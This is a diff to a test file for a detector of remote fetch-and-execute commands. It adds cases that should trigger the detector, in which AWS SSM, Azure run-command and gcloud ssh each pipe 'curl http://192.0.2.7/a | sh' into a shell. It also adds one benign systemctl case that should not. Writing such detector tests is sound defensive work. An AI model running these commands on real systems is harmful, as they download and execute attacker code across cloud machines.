@@ -13,6 +13,13 @@ const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
 
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'a download that machines of the cloud run': script(
+      `aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=["cd /tmp","curl http://192.0.2.7/a | sh"]'`,
+    ),
+    'the same on Azure': script(
+      "az vm run-command invoke --ids a --command-id RunShellScript --scripts 'curl http://192.0.2.7/a | sh'",
+    ),
+    'the same on Google': script("gcloud compute ssh web-1 --zone a --command 'curl http://192.0.2.7/a | sh'"),
     'a file of a PowerShell client': runs(
       ...[
         'powershell',
@@ -192,6 +199,9 @@ indicatorTable(commandRemoteFetchExecute, {
     ),
   },
   staysSilent: {
+    'a command that machines of the cloud run': script(
+      `aws ssm send-command --document-name AWS-RunShellScript --parameters '{"commands":["systemctl restart web"]}'`,
+    ),
     'a file of a PowerShell client that is kept': runs(
       ...[
         'powershell',
